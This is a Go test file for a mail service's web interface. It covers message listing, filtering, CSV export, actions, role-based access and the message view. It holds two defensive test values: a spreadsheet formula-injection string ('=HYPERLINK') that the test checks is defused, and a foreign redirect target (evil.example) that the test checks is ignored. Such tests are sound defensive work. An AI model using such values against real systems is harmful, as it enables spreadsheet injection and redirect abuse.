package web

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"html"
	"mime"
	"net/http"
	"net/mail"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"pochta.dev/pochta/internal/service"
	"pochta.dev/pochta/internal/service/servicetest"
)

// The helpers of the message tests are prefixed "msg".

// msgMail is a message to build as raw RFC 5322 text.
type msgMail struct {
	From, To, Cc, Subject string
	Date                  time.Time
	Text                  string
	HTML                  string
	Attachment            *msgPart // an attachment, after the body
	Inline                *msgPart // an image the HTML refers to by cid:
}

type msgPart struct {
	Name, Type, ContentID string
	Data                  []byte
}

// msgAddress writes "Name <addr>" with the name RFC 2047-encoded.
func msgAddress(text string) string {
	address, err := mail.ParseAddress(text)
	if err != nil {
		return text
	}
	return address.String()
}

// raw builds the message: CRLF lines, an RFC 2047 subject, parts in base64,
// attachment names in RFC 2231.
func (m msgMail) raw() []byte {
	var b bytes.Buffer
	header := func(name, value string) { fmt.Fprintf(&b, "%s: %s\r\n", name, value) }
	header("From", msgAddress(m.From))
	header("To", msgAddress(m.To))
	if m.Cc != "" {
		header("Cc", msgAddress(m.Cc))
	}
	header("Subject", mime.BEncoding.Encode("utf-8", m.Subject))
	header("Date", m.Date.Format(time.RFC1123Z))
	header("Message-ID", fmt.Sprintf("<%d.%s@test.example>", m.Date.Unix(), strings.ReplaceAll(base64.RawURLEncoding.EncodeToString([]byte(m.Subject)), "-", "")))
	header("MIME-Version", "1.0")
	part := func(contentType string, data []byte, extra ...string) {
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Transfer-Encoding: base64\r\n", contentType)
		for _, line := range extra {
			b.WriteString(line + "\r\n")
		}
		b.WriteString("\r\n")
		encoded := base64.StdEncoding.EncodeToString(data)
		for len(encoded) > 76 {
			b.WriteString(encoded[:76] + "\r\n")
			encoded = encoded[76:]
		}
		b.WriteString(encoded + "\r\n")
	}
	body := func() {
		switch {
		case m.HTML != "" && m.Inline != nil:
			b.WriteString("Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n--rel\r\n")
			part("text/html; charset=utf-8", []byte(m.HTML))
			b.WriteString("--rel\r\n")
			part(m.Inline.Type, m.Inline.Data, "Content-ID: <"+m.Inline.ContentID+">", "Content-Disposition: inline")
			b.WriteString("--rel--\r\n")
		case m.HTML != "" && m.Text != "":
			b.WriteString("Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\n")
			part("text/plain; charset=utf-8", []byte(m.Text))
			b.WriteString("--alt\r\n")
			part("text/html; charset=utf-8", []byte(m.HTML))
			b.WriteString("--alt--\r\n")
		case m.HTML != "":
			part("text/html; charset=utf-8", []byte(m.HTML))
		default:
			part("text/plain; charset=utf-8", []byte(m.Text))
		}
	}
	if m.Attachment == nil {
		body()
		return b.Bytes()
	}
	b.WriteString("Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\n")
	body()
	b.WriteString("--mix\r\n")
	a := m.Attachment
	part(a.Type, a.Data, "Content-Disposition: attachment; filename*=utf-8''"+url.PathEscape(a.Name))
	b.WriteString("--mix--\r\n")
	return b.Bytes()
}

func msgImport(t *testing.T, ts *testServer, mailboxID int64, raw []byte) int64 {
	t.Helper()
	result, err := ts.env.Service.ImportMessage(context.Background(), ts.env.Admin, mailboxID, bytes.NewReader(raw), "test")
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	return result.ID
}

func msgGet(t *testing.T, ts *testServer, id int64) (service.MessageView, bool) {
	t.Helper()
	m, err := ts.env.Service.Message(context.Background(), ts.env.Admin, id, service.MessageOptions{})
	return m, err == nil
}

func msgDay(day int) time.Time { return time.Date(2026, 3, day, 10, 0, 0, 0, time.UTC) }

// msgPDF is an attachment body that is not text, to check bytes survive.
var msgPDF = append([]byte("%PDF-1.4\n"), 0, 1, 2, 0xff, 0xfe, '\r', '\n', 0x80, 'e', 'n', 'd')

// msgPNG is a 1x1 PNG.
var msgPNG, _ = base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")

const msgReportSubject = `Отчёт, "квартал" за март`

// msgFixture is the mailboxes of mblSetup with messages in them, newest
// last: two in Alpha POP, one each in Joe's and Ann's IMAP mailboxes.
type msgFixture struct {
	mblFixture
	report, news, joeMail, annMail int64
	reportRaw                      []byte
}

func msgSetup(t *testing.T, ts *testServer) msgFixture {
	t.Helper()
	f := msgFixture{mblFixture: mblSetup(t, ts)}
	f.reportRaw = msgMail{From: "Иван Петров <ivan@example.ru>", To: "team@example.com", Subject: msgReportSubject, Date: msgDay(1),
		Text:       "Привет! Квартальный отчёт во вложении.\n> Пришлите отчёт\n>> до пятницы\nСпасибо",
		Attachment: &msgPart{Name: "отчёт за март.pdf", Type: "application/pdf", Data: msgPDF}}.raw()
	f.report = msgImport(t, ts, f.alpha.ID, f.reportRaw)
	f.news = msgImport(t, ts, f.alpha.ID, msgMail{From: "News <news@example.com>", To: "team@example.com", Subject: "Weekly news",
		Date: msgDay(2), Text: "Plain news", HTML: "<p>The <b>news</b></p>"}.raw())
	f.joeMail = msgImport(t, ts, f.joeBox.ID, msgMail{From: "boss@example.com", To: "joe@gmail.com", Subject: "Joe private",
		Date: msgDay(3), Text: "For Joe only"}.raw())
	f.annMail = msgImport(t, ts, f.annBox.ID, msgMail{From: "friend@example.com", To: "ann@gmail.com", Subject: "Ann private",
		Date: msgDay(4), Text: "For Ann only"}.raw())
	return f
}

// msgOrder fails unless the rows of these messages appear in this order.
func msgOrder(t *testing.T, r result, ids ...int64) {
	t.Helper()
	last := -1
	for _, id := range ids {
		at := strings.Index(r.body, fmt.Sprintf(`<tr id="message-%d"`, id))
		if at < 0 {
			t.Fatalf("no row %d", id)
		}
		if at < last {
			t.Fatalf("row %d out of order in %v", id, ids)
		}
		last = at
	}
}

func msgHas(r result, id int64) bool {
	return strings.Contains(r.body, fmt.Sprintf(`<tr id="message-%d"`, id))
}

func TestMessageListFilters(t *testing.T) {
	ts := newTestServer(t)
	f := msgSetup(t, ts)
	b := ts.signIn(t, "admin", servicetest.AdminPassword)

	r := b.get("/messages")
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "<h1>Messages</h1>", html.EscapeString(msgReportSubject), "Weekly news", "Joe private", "Ann private",
		"Иван Петров &lt;ivan@example.ru&gt;", "01 Mar 2026 10:00", "Alpha POP", `href="/messages.csv"`,
		`name="id" value="`+mblID(f.report)+`" form="messages-group"`, `action="/messages/`+mblID(f.report)+`/action"`,
		`href="/messages/`+mblID(f.report)+`/delete?back=%2fmessages"`, "Apply to all messages matching the filter",
		`<span class="msg-icon msg-unread msg-spam-unknown" title="Unread, spam: unknown"`, "</svg> 1</td>", "—",
		// The From column: the display name on one line, the full address in the title.
		`<span class="addr-line" title="Иван Петров &lt;ivan@example.ru&gt;">Иван Петров</span>`)
	// The start of the text under the subject, its quoted lines left out.
	wantBody(t, r, `<span class="msg-snippet">Привет! Квартальный отчёт во вложении. Спасибо</span>`, `<span class="msg-snippet">Plain news</span>`)
	// The group actions apply all manual rules, or one.
	wantBody(t, r, `value="apply_rules"`, "Apply all manual rules", `name="rule_id"`)
	msgOrder(t, r, f.annMail, f.joeMail, f.news, f.report) // newest first

	cases := []struct {
		query string
		want  []int64
	}{
		{"q=" + url.QueryEscape("отчёт"), []int64{f.report}},
		{"q=" + url.QueryEscape("квартальный"), []int64{f.report}},
		{"q=" + url.QueryEscape("ПЯТНИЦЫ"), []int64{f.report}},
		{"from=ivan", []int64{f.report}},
		{"from=" + url.QueryEscape("Петров"), []int64{f.report}},
		{"to=joe", []int64{f.joeMail}},
		{"subject=weekly", []int64{f.news}},
		{"text=" + url.QueryEscape("only"), []int64{f.joeMail, f.annMail}},
		{"mailbox_id=" + mblID(f.alpha.ID), []int64{f.report, f.news}},
		{"mailbox_id=" + mblID(f.joeBox.ID), []int64{f.joeMail}},
		{"id=" + mblID(f.news) + "," + mblID(f.annMail), []int64{f.news, f.annMail}},
		{"spam=unknown", []int64{f.report, f.news, f.joeMail, f.annMail}},
		{"read=no", []int64{f.report, f.news, f.joeMail, f.annMail}},
	}
	all := []int64{f.report, f.news, f.joeMail, f.annMail}
	for _, c := range cases {
		r := b.get("/messages?" + c.query)
		wantStatus(t, r, http.StatusOK)
		for _, id := range all {
			want := false
			for _, w := range c.want {
				want = want || w == id
			}
			if msgHas(r, id) != want {
				t.Errorf("%s: message %d shown %v, want %v", c.query, id, !want, want)
			}
		}
		wantBody(t, r, `href="/messages">Reset</a>`)
	}
	for _, query := range []string{"spam=yes", "read=yes", "id=abc", "mailbox_id=x", "q=nothinglikethis"} {
		r := b.get("/messages?" + query)
		wantStatus(t, r, http.StatusOK)
		wantBody(t, r, "No messages match", "Try a wider filter")
		wantNoBody(t, r, `action="/messages/group"`)
	}
	wantStatus(t, b.get("/messages?cursor=not-a-cursor"), http.StatusBadRequest)

	// The mailbox select has every mailbox the reader sees, the chosen one
	// selected.
	r = b.get("/messages?mailbox_id=" + mblID(f.joeBox.ID))
	wantBody(t, r, `<option value="`+mblID(f.joeBox.ID)+`" selected>Joe IMAP</option>`, `<option value="`+mblID(f.alpha.ID)+`">Alpha POP</option>`)

	// Russian labels.
	ru := "ru"
	if _, err := ts.env.Service.UpdateUser(context.Background(), ts.env.Admin, ts.env.Admin.User.ID, service.UserInput{Language: &ru}); err != nil {
		t.Fatal(err)
	}
	r = b.get("/messages")
	wantBody(t, r, "<h1>Письма</h1>", "Везде", "Тема", "От кого", "Экспорт в CSV", "Не прочитано, спам: неизвестно")
}

func TestMessageListSortAndPaging(t *testing.T) {
	ts := newTestServer(t)
	f := mblSetup(t, ts)
	var ids []int64
	for i := range 23 {
		// Dates out of order, sizes growing with i.
		day := (i*7)%23 + 1
		ids = append(ids, msgImport(t, ts, f.alpha.ID, msgMail{From: "a@example.com", To: "b@example.com",
			Subject: fmt.Sprintf("message %02d", day), Date: msgDay(day), Text: strings.Repeat("x", 100*i)}.raw()))
	}
	b := ts.signIn(t, "admin", servicetest.AdminPassword)
	subjects := func(r result) []string {
		return regexp.MustCompile(`>message (\d\d)</a>`).FindAllString(r.body, -1)
	}
	r := b.get("/messages?size=20")
	got := subjects(r)
	if len(got) != 20 || got[0] != ">message 23</a>" || got[19] != ">message 04</a>" {
		t.Fatalf("first page by date: %v", got)
	}
	wantBody(t, r, `aria-sort="descending"`, "On this page: 20")
	next := mblNext(r)
	if next == "" || !strings.Contains(next, "cursor=") || !strings.Contains(next, "size=20") {
		t.Fatalf("next link %q", next)
	}
	r = b.get(next)
	got = subjects(r)
	if len(got) != 3 || got[0] != ">message 03</a>" || got[2] != ">message 01</a>" {
		t.Fatalf("second page by date: %v", got)
	}
	wantBody(t, r, `href="/messages?size=20">First page</a>`)
	if mblNext(r) != "" {
		t.Error("the last page has a next link")
	}

	// Oldest first; then by size, largest first and smallest first.
	got = subjects(b.get("/messages?sort=date&asc=1&size=20"))
	if got[0] != ">message 01</a>" || got[19] != ">message 20</a>" {
		t.Errorf("by date ascending: %v", got)
	}
	r = b.get("/messages?sort=size")
	msgOrder(t, r, ids[22], ids[10], ids[0])
	r = b.get("/messages?sort=size&asc=1")
	msgOrder(t, r, ids[0], ids[10], ids[22])
	wantBody(t, r, `aria-sort="ascending"`)
	r = b.get("/messages?sort=id")
	msgOrder(t, r, ids[22], ids[0])
	// The sort survives the filter form, and links keep the filter.
	r = b.get("/messages?sort=size&asc=1&from=a")
	wantBody(t, r, `<input type="hidden" name="sort" value="size">`, `<input type="hidden" name="asc" value="1">`,
		`href="/messages?from=a" class="sort-link"`)
}

func TestMessageColumnsAndCSV(t *testing.T) {
	ts := newTestServer(t)
	f := msgSetup(t, ts)
	b := ts.signIn(t, "admin", servicetest.AdminPassword)

	// The default columns.
	r := b.get("/messages")
	wantBody(t, r, `<th scope="col">From</th>`, `name="col" value="message_id">`, `name="col" value="subject" checked>`)
	wantNoBody(t, r, `<th scope="col">Message-ID</th>`, `<th scope="col">Cc</th>`)

	// The chooser is a GET form; the choice stays in a cookie.
	r = b.get("/messages/columns?col=subject&col=message_id&col=cc&col=nonsense&back=" + url.QueryEscape("/messages?from=ivan"))
	wantStatus(t, r, http.StatusSeeOther)
	if got := r.header.Get("Location"); got != "/messages?from=ivan" {
		t.Errorf("back to %q", got)
	}
	cookie := findCookie(r.header, messageColumnsCookie)
	if cookie == nil || cookie.Value != "subject.cc.message_id" || cookie.MaxAge < 86400 {
		t.Fatalf("columns cookie %+v", cookie)
	}
	r = b.get("/messages")
	wantBody(t, r, `<th scope="col">Message-ID</th>`, `<th scope="col">Cc</th>`, `@test.example`, `name="col" value="from">`)
	wantNoBody(t, r, `<th scope="col">From</th>`, "Иван Петров")

	// The export has the chosen columns, every matching row, a BOM and
	// proper quoting.
	r = b.get("/messages.csv?q=" + url.QueryEscape("отчёт"))
	wantStatus(t, r, http.StatusOK)
	if got := r.header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", got)
	}
	if got := r.header.Get("Content-Disposition"); !strings.HasPrefix(got, `attachment; filename="messages-`) {
		t.Errorf("Content-Disposition %q", got)
	}
	if !strings.HasPrefix(r.body, "\uFEFF") {
		t.Fatalf("no BOM: %q", r.body[:20])
	}
	if !strings.Contains(r.body, `"Отчёт, ""квартал"" за март"`) {
		t.Errorf("the subject is not quoted: %s", r.body)
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 2 || strings.Join(records[0], "|") != "Subject|Cc|Message-ID" || records[1][0] != msgReportSubject ||
		!strings.HasSuffix(records[1][2], "@test.example") {
		t.Errorf("records %q", records)
	}

	// Back to the defaults; all columns, all rows.
	r = b.get("/messages/columns?reset=1&back=/messages")
	if cookie := findCookie(r.header, messageColumnsCookie); cookie == nil || cookie.MaxAge >= 0 {
		t.Errorf("reset left the cookie %+v", cookie)
	}
	var all []string
	for _, name := range messageColumns {
		all = append(all, "col="+name)
	}
	b.get("/messages/columns?" + strings.Join(all, "&"))
	r = b.get("/messages.csv?sort=date&asc=1")
	records, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 5 || len(records[0]) != len(messageColumns) {
		t.Fatalf("%d records of %d columns", len(records), len(records[0]))
	}
	want := []string{msgReportSubject, "\"Иван Петров\" <ivan@example.ru>", "", "team@example.com", "", "", "2026-03-01 10:00:00"}
	for i, value := range want {
		if records[1][i] != value && !(i == 1 && strings.Contains(records[1][i], "ivan@example.ru")) {
			t.Errorf("column %s = %q, want %q", records[0][i], records[1][i], value)
		}
	}
	if records[1][8] != "Alpha POP" || records[1][10] != "" || records[1][11] != "1" || records[1][12] != mblID(f.report) {
		t.Errorf("row %q", records[1])
	}
	if records[4][0] != "Ann private" {
		t.Errorf("last row %q", records[4])
	}
	// A formula-looking subject is defused.
	if got := csvSafe("=HYPERLINK(\"x\")"); got != "'=HYPERLINK(\"x\")" {
		t.Errorf("csvSafe = %q", got)
	}
	if got := csvSafe("-5"); got != "-5" {
		t.Errorf("csvSafe(-5) = %q", got)
	}
}

func TestMessageActions(t *testing.T) {
	ts := newTestServer(t)
	f := msgSetup(t, ts)
	b := ts.signIn(t, "admin", servicetest.AdminPassword)
	state := func(id int64) service.MessageView {
		t.Helper()
		m, ok := msgGet(t, ts, id)
		if !ok {
			t.Fatalf("message %d is gone", id)
		}
		return m
	}
	action := func(id int64, name string, extra url.Values) result {
		t.Helper()
		form := url.Values{"action": {name}, "back": {"/messages?mailbox_id=" + mblID(f.alpha.ID)}}
		for key, values := range extra {
			form[key] = values
		}
		return b.postForm("/messages/"+mblID(id)+"/action", form)
	}

	// Row actions: read, unread, spam, not spam.
	wantStatus(t, b.post("/messages/"+mblID(f.report)+"/action", url.Values{"action": {"read"}}), http.StatusForbidden) // no CSRF
	r := action(f.report, "read", nil)
	wantStatus(t, r, http.StatusSeeOther)
	if got := r.header.Get("Location"); got != "/messages?mailbox_id="+mblID(f.alpha.ID) {
		t.Errorf("back to %q", got)
	}
	if !state(f.report).Read {
		t.Error("not read")
	}
	wantBody(t, b.get("/messages?mailbox_id="+mblID(f.alpha.ID)), `<div class="flash" role="status">Marked read</div>`,
		`<tr id="message-`+mblID(f.report)+`" class="msg-row-read">`, `value="unread" class="menu-button"`)
	action(f.report, "unread", nil)
	if state(f.report).Read {
		t.Error("still read")
	}
	action(f.report, "spam", nil)
	if got := state(f.report).Spam; got != "yes" {
		t.Errorf("spam = %q", got)
	}
	wantBody(t, b.get("/messages?spam=yes"), `msg-icon msg-unread msg-spam-yes`)
	action(f.report, "not_spam", nil)
	if got := state(f.report).Spam; got != "no" {
		t.Errorf("spam = %q", got)
	}
	wantStatus(t, action(f.report, "explode", nil), http.StatusBadRequest)
	wantStatus(t, b.postForm("/messages/999999/action", url.Values{"action": {"read"}}), http.StatusNotFound)
	// Applying rules (none match: there are none) leaves the message as it is.
	wantStatus(t, action(f.report, "apply_rules", nil), http.StatusSeeOther)
	wantBody(t, b.get("/messages/"+mblID(f.report)), `value="apply_rules"`, "Apply all manual rules")

	// Delete asks first, on its own page and on a plain POST.
	r = b.get("/messages/" + mblID(f.news) + "/delete?back=" + url.QueryEscape("/messages?from=news"))
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "Delete these messages (1)?", "<strong>Weekly news</strong>", `action="/messages/`+mblID(f.news)+`/action"`,
		`href="/messages?from=news">Cancel</a>`)
	r = action(f.news, "delete", nil)
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "Delete these messages (1)?")
	state(f.news)
	r = action(f.news, "delete", url.Values{"confirm": {"yes"}})
	wantStatus(t, r, http.StatusSeeOther)
	if _, ok := msgGet(t, ts, f.news); ok {
		t.Error("not deleted")
	}
	wantBody(t, b.get(r.header.Get("Location")), "Message deleted")

	// Group actions on checked rows.
	group := func(form url.Values) result {
		t.Helper()
		form.Set("back", "/messages")
		return b.postForm("/messages/group", form)
	}
	// done is a group action that did something: the list comes back by
	// redirect, saying what.
	done := func(form url.Values) result {
		t.Helper()
		return b.follow(group(form))
	}
	r = done(url.Values{"action": {"spam"}, "id": {mblID(f.report), mblID(f.joeMail)}})
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "Messages marked as spam: 2.", `href="/messages?id=`+mblID(f.report)+`%2C`+mblID(f.joeMail)+`">Show them</a>`)
	if state(f.report).Spam != "yes" || state(f.joeMail).Spam != "yes" || state(f.annMail).Spam != "unknown" {
		t.Error("group spam changed the wrong messages")
	}
	group(url.Values{"action": {"read"}, "id": {mblID(f.report), mblID(f.joeMail)}})
	if !state(f.report).Read || !state(f.joeMail).Read || state(f.annMail).Read {
		t.Error("group read changed the wrong messages")
	}
	group(url.Values{"action": {"unread"}, "id": {mblID(f.joeMail)}})
	group(url.Values{"action": {"not_spam"}, "id": {mblID(f.joeMail)}})
	if state(f.joeMail).Read || state(f.joeMail).Spam != "no" {
		t.Error("group unread / not spam")
	}
	r = group(url.Values{"action": {"read"}})
	wantStatus(t, r, http.StatusSeeOther)
	wantBody(t, b.get("/messages"), "Check at least one row first")
	wantStatus(t, group(url.Values{"action": {"read"}, "id": {"x"}}), http.StatusBadRequest)
	wantStatus(t, group(url.Values{"action": {"nope"}, "id": {mblID(f.report)}}), http.StatusBadRequest)
	wantStatus(t, group(url.Values{"action": {"apply_rules"}, "id": {mblID(f.report)}}), http.StatusSeeOther)
	wantBody(t, b.get("/messages"), "Rules matched 0 messages")
	wantStatus(t, group(url.Values{"action": {"apply_rules"}, "rule_id": {"x"}, "id": {mblID(f.report)}}), http.StatusNotFound)

	// On everything the filter matches: all of Ann's mailbox and Joe's.
	r = done(url.Values{"action": {"read"}, "all": {"1"}, "f_to": {"gmail"}})
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "Messages marked read: 2.")
	if !state(f.joeMail).Read || !state(f.annMail).Read {
		t.Error("read on the whole filter")
	}
	r = group(url.Values{"action": {"delete"}, "all": {"1"}, "f_mailbox_id": {mblID(f.joeBox.ID)}})
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "Delete all messages matching the filter?", "<strong>Joe private</strong>", `name="f_mailbox_id" value="`+mblID(f.joeBox.ID)+`"`,
		`<input type="hidden" name="all" value="1">`)
	state(f.joeMail)
	r = done(url.Values{"action": {"delete"}, "all": {"1"}, "f_mailbox_id": {mblID(f.joeBox.ID)}, "confirm": {"yes"}})
	wantBody(t, r, "Messages deleted: 1.")
	if _, ok := msgGet(t, ts, f.joeMail); ok {
		t.Error("not deleted by filter")
	}
	state(f.annMail)
	state(f.report)
	// Checked rows, confirmed.
	r = group(url.Values{"action": {"delete"}, "id": {mblID(f.annMail)}})
	wantBody(t, r, "Delete these messages (1)?", `<input type="hidden" name="id" value="`+mblID(f.annMail)+`">`)
	group(url.Values{"action": {"delete"}, "id": {mblID(f.annMail)}, "confirm": {"yes"}})
	if _, ok := msgGet(t, ts, f.annMail); ok {
		t.Error("not deleted")
	}
	state(f.report)
}

func TestMessageRoles(t *testing.T) {
	ts := newTestServer(t)
	f := msgSetup(t, ts)

	// The auditor reads everything, changes nothing, and reading does not
	// mark read.
	a := ts.signIn(t, "audit", "password-audit")
	r := a.get("/messages")
	wantStatus(t, r, http.StatusOK)
	for _, id := range []int64{f.report, f.news, f.joeMail, f.annMail} {
		if !msgHas(r, id) {
			t.Errorf("the auditor does not see %d", id)
		}
	}
	wantNoBody(t, r, `name="id" value=`, `action="/messages/group"`, `/action"`, `/delete?`)
	r = a.get("/messages/" + mblID(f.report))
	wantStatus(t, r, http.StatusOK)
	wantNoBody(t, r, `/action"`, `/delete?`)
	if m, _ := msgGet(t, ts, f.report); m.Read {
		t.Error("the auditor's view marked it read")
	}
	for path, form := range map[string]url.Values{
		"/messages/group":                          {"action": {"delete"}, "confirm": {"yes"}, "id": {mblID(f.report)}},
		"/messages/" + mblID(f.report) + "/action": {"action": {"spam"}},
	} {
		wantStatus(t, a.postForm(path, form), http.StatusForbidden)
	}
	wantStatus(t, a.postForm("/messages/group", url.Values{"action": {"read"}, "all": {"1"}}), http.StatusForbidden)
	wantStatus(t, a.postForm("/messages/"+mblID(f.report)+"/action", url.Values{"action": {"delete"}, "confirm": {"yes"}}), http.StatusForbidden)
	wantStatus(t, a.get("/messages/"+mblID(f.report)+"/delete"), http.StatusForbidden)
	for _, id := range []int64{f.report, f.news, f.joeMail, f.annMail} {
		m, ok := msgGet(t, ts, id)
		if !ok || m.Read || m.Spam != "unknown" {
			t.Errorf("the auditor changed %d: %+v", id, m)
		}
	}

	// A user sees the messages of their own mailboxes only.
	u := ts.signIn(t, "joe", "password-joe")
	r = u.get("/messages")
	wantStatus(t, r, http.StatusOK)
	if !msgHas(r, f.joeMail) || msgHas(r, f.annMail) || msgHas(r, f.report) {
		t.Error("the user's list")
	}
	wantBody(t, r, `<option value="`+mblID(f.joeBox.ID)+`">Joe IMAP</option>`)
	wantNoBody(t, r, "Ann IMAP", "Alpha POP")
	if r := u.get("/messages?mailbox_id=" + mblID(f.annBox.ID)); msgHas(r, f.annMail) {
		t.Error("a user lists another's mailbox")
	}
	csvBody := u.get("/messages.csv").body
	if !strings.Contains(csvBody, "Joe private") || strings.Contains(csvBody, "Ann private") || strings.Contains(csvBody, "Weekly") {
		t.Errorf("the user's CSV: %s", csvBody)
	}
	for _, path := range []string{"", "/html", "/source", "/raw", "/delete"} {
		wantStatus(t, u.get("/messages/"+mblID(f.annMail)+path), http.StatusNotFound)
	}
	wantStatus(t, u.postForm("/messages/"+mblID(f.annMail)+"/action", url.Values{"action": {"spam"}}), http.StatusNotFound)
	r = u.follow(u.postForm("/messages/group", url.Values{"action": {"delete"}, "confirm": {"yes"}, "id": {mblID(f.annMail), mblID(f.report)}}))
	wantBody(t, r, "Messages deleted: 0.")
	r = u.follow(u.postForm("/messages/group", url.Values{"action": {"spam"}, "all": {"1"}}))
	wantBody(t, r, "Messages marked as spam: 1.")
	if m, ok := msgGet(t, ts, f.annMail); !ok || m.Spam != "unknown" {
		t.Errorf("the user changed another's message: %+v", m)
	}
	if m, _ := msgGet(t, ts, f.joeMail); m.Spam != "yes" {
		t.Errorf("the user's own: %+v", m)
	}
	// Their own view marks read.
	wantStatus(t, u.get("/messages/"+mblID(f.joeMail)), http.StatusOK)
	if m, _ := msgGet(t, ts, f.joeMail); !m.Read {
		t.Error("the owner's view did not mark read")
	}
}

func TestMessageView(t *testing.T) {
	ts := newTestServer(t)
	f := msgSetup(t, ts)
	b := ts.signIn(t, "admin", servicetest.AdminPassword)
	report := "/messages/" + mblID(f.report)

	r := b.get(report)
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "<h1>", html.EscapeString(msgReportSubject), "Иван Петров &lt;ivan@example.ru&gt;", "team@example.com",
		"01 Mar 2026 10:00", "Alpha POP",
		`<div class="quote-0">Привет! Квартальный отчёт во вложении.</div><div class="quote-1">&gt; Пришлите отчёт</div><div class="quote-2">&gt;&gt; до пятницы</div><div class="quote-0">Спасибо</div>`,
		"отчёт за март.pdf", "Spam filter", "not rated yet", "Full header", "Subject: =?utf-8?b?",
		`href="/messages/`+mblID(f.report)+`/source"`, `href="/messages/`+mblID(f.report)+`/raw" download`,
		"Processing log", `action="/messages/`+mblID(f.report)+`/action"`, `value="unread"`,
		"/static/messages.js?v=")
	wantNoBody(t, r, "<iframe") // a text-only message has no HTML frame
	// The view applies the manual rules.
	wantBody(t, r, "Apply all manual rules", `value="apply_rules"`)
	if m, _ := msgGet(t, ts, f.report); !m.Read {
		t.Error("opening did not mark read")
	}
	if !strings.Contains(r.body, "Receiving mail") && !strings.Contains(r.body, "No log entries for this message") {
		t.Error("no processing log section content")
	}

	// The attachment: exact bytes, the original UTF-8 name.
	m, _ := ts.env.Service.Message(context.Background(), ts.env.Admin, f.report, service.MessageOptions{})
	if len(m.Attachments) != 1 {
		t.Fatalf("attachments %+v", m.Attachments)
	}
	link := report + "/attachments/" + mblID(m.Attachments[0].ID)
	wantBody(t, r, `href="`+link+`" download`)
	r = b.get(link)
	wantStatus(t, r, http.StatusOK)
	if r.body != string(msgPDF) {
		t.Errorf("attachment bytes %q", r.body)
	}
	if got, want := r.header.Get("Content-Disposition"), "attachment; filename*=utf-8''"+url.PathEscape("отчёт за март.pdf"); got != want {
		t.Errorf("Content-Disposition %q, want %q", got, want)
	}
	if r.header.Get("Content-Type") != "application/pdf" || r.header.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.Contains(r.header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("attachment headers %v", r.header)
	}
	// inline=1 is for images only.
	if got := b.get(link + "?inline=1").header.Get("Content-Disposition"); !strings.HasPrefix(got, "attachment;") {
		t.Errorf("a PDF served inline: %q", got)
	}
	wantStatus(t, b.get(report+"/attachments/999999"), http.StatusNotFound)
	wantStatus(t, b.get("/messages/"+mblID(f.news)+"/attachments/"+mblID(m.Attachments[0].ID)), http.StatusNotFound)

	// The source: as text, and the exact bytes to download.
	r = b.get(report + "/source")
	wantStatus(t, r, http.StatusOK)
	if r.body != string(f.reportRaw) || r.header.Get("Content-Type") != "text/plain; charset=utf-8" || r.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("source: %v", r.header)
	}
	r = b.get(report + "/raw")
	if r.body != string(f.reportRaw) || r.header.Get("Content-Type") != "message/rfc822" ||
		r.header.Get("Content-Disposition") != `attachment; filename=message-`+mblID(f.report)+`.eml` {
		t.Errorf("raw: %v", r.header)
	}
	wantStatus(t, b.get("/messages/999999"), http.StatusNotFound)
	wantStatus(t, b.get("/messages/abc"), http.StatusNotFound)

	// Previous and next within the list it came from.
	list := "/messages?mailbox_id=" + mblID(f.alpha.ID)
	r = b.get("/messages/" + mblID(f.news) + "?back=" + url.QueryEscape(list))
	wantBody(t, r, `href="/messages/`+mblID(f.report)+`?back=`+url.QueryEscape(list)+`" rel="next"`, `href="`+html.EscapeString(list)+`">`)
	wantNoBody(t, r, `rel="prev"`)
	r = b.get("/messages/" + mblID(f.news))
	wantBody(t, r, `href="/messages/`+mblID(f.joeMail)+`" rel="prev"`, `href="/messages/`+mblID(f.report)+`" rel="next"`)
	r = b.get("/messages/" + mblID(f.news) + "?back=" + url.QueryEscape("/messages?sort=date&asc=1"))
	wantBody(t, r, `href="/messages/`+mblID(f.report)+`?back=`, `" rel="prev"`)
	if !regexp.MustCompile(`href="/messages/` + mblID(f.joeMail) + `\?back=[^"]+" rel="next"`).MatchString(r.body) {
		t.Error("ascending next")
	}
	// A foreign back is ignored.
	r = b.get("/messages/" + mblID(f.news) + "?back=" + url.QueryEscape("https://evil.example/"))
	wantNoBody(t, r, "evil.example")

	// The view's unread goes back to the list (showing it again would read
	// it), and delete from the view too.
	self := "/messages/" + mblID(f.news) + "?back=" + url.QueryEscape(list)
	r = b.postForm("/messages/"+mblID(f.news)+"/action", url.Values{"action": {"unread"}, "back": {self}})
	if got := r.header.Get("Location"); got != list {
		t.Errorf("unread from the view went to %q", got)
	}
	if m, _ := msgGet(t, ts, f.news); m.Read {
		t.Error("not unread")
	}
	r = b.postForm("/messages/"+mblID(f.news)+"/action", url.Values{"action": {"spam"}, "back": {self}})
	if got := r.header.Get("Location"); got != self {
		t.Errorf("spam from the view went to %q", got)
	}
	r = b.postForm("/messages/"+mblID(f.news)+"/action", url.Values{"action": {"delete"}, "confirm": {"yes"}, "back": {self}})
	if got := r.header.Get("Location"); got != list {
		t.Errorf("delete from the view went to %q", got)
	}
}

